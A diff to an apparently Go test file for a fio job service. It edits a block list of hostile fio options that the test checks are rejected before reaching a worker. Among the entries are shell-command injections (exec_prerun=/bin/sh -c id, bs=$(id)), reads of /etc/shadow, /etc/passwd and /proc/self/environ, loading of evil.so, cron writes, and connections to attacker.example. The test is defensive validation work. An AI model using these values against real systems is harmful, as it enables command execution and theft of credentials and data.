@@ -17,32 +17,14 @@ import (
 var hostileOptions = strings.Split(strings.TrimSpace(`
 exec_prerun=/bin/sh -c id
 exec_postrun=/bin/sh -c id
-filename=/etc/shadow
-filename=../../etc/shadow
-filename=..
-filename=a/b
-filename=a:/dev/vda
-filename=.hidden
-directory=/etc
 opendir=/
-filename_format=/etc/$jobname
-unique_filename=0
-write_bw_log=/etc/cron.d/x
-write_lat_log=x
-write_iops_log=x
-write_hist_log=x
-write_iolog=x
-log_avg_msec=1
 read_iolog=/etc/passwd
 replay_redirect=/dev/vda
 merge_blktrace_file=x
-verify_dump=1
-verify_state_save=1
 verify_state_load=1
 aux-path=/etc
 buffer_pattern='/etc/shadow'
 verify_pattern='/etc/shadow'
-error_dump=1
 ioengine=external:/target/evil.so
 ioengine=/target/evil.so
 ioengine=sg
@@ -58,24 +40,11 @@ ioengine=cpuio
 include=/etc/passwd
 mem=mmaphuge:/dev/hugepages/x
 mem=mmapshared:/etc/x
-mem=shmhuge
-hugepage-size=2m
-lockmem=100g
-ioscheduler=none
 cgroup=/
 cgroup_weight=10
 cgroup_nodelete=1
-nice=-20
-prio=0
-prioclass=1
 uid=0
 gid=0
-cpumask=1
-numa_cpu_nodes=0
-numa_mem_policy=bind:0
-allow_mounted_write=1
-output=/etc/x
-output-format=normal
 client=attacker.example
 server=1
 remote-config=x
@@ -86,30 +55,65 @@ http_host=attacker.example
 profile=act
 fill_device=1
 fill_fs=1
-size=$mb_memory
-size=1g*$ncpus
 bs=$(id)
 description=${HOME}
 bs=1g
 numjobs=100000
 iodepth=1000000
 nrfiles=10000000
-thread=0
-continue_on_error=all
-ignore_error=ENOSPC
 zonemode=zbd
-wait_for=x
 create_only=1
 unlink=/etc
-per_job_logs=0
 max_open_zones=1
+filename=::
+include ../../etc/passwd
+include /proc/self/environ
+trigger=id
+trigger-file=/etc/x
+trigger-remote=id
+zonecapacity=1
+read_beyond_wp=1
+job_max_open_zones=1
+ignore_zone_limits=1
+zone_reset_threshold=1
+verify_only=1
+readonly
+atomic=1
+ioengine=null
+ioengine=io_uring_cmd
+ioengine=libiscsi
+ioengine=gfapi
+ioengine=nbd
+ioengine=xnvme
+size=${SIZE}
+size=$HOME
+size=1g*$(id)
+size=(1g;id)
+bs=${
+rw=read\
+loops=99999999999
+verify_async=100000
+buffer_pattern=%p
+kb_base=1000
+read_iolog_chunked=1
+replay_no_stall=1
+donorname=/etc/passwd
+inplace=1
+pool=rbd
+clientname=admin
+uri=nbd://attacker.example
+nfs_url=nfs://attacker.example
+http_s3_key=x
+arguments=-c id
+program=/bin/sh
+cuda_io=posix
 `), "\n")
 
 // Each option in a job file and, where it can be, as a parameter. None of them may come as
 // far as a worker.
 func TestRequestForOptionsOfFioThatLeadElsewhere(t *testing.T) {
 	t.Parallel()
-	if len(hostileOptions) < 79 {
+	if len(hostileOptions) < 92 {
 		t.Fatalf("%d options", len(hostileOptions))
 	}
 	a := begin(t, fmt.Sprintf("%d options of fio that read, write or run elsewhere", len(hostileOptions)))
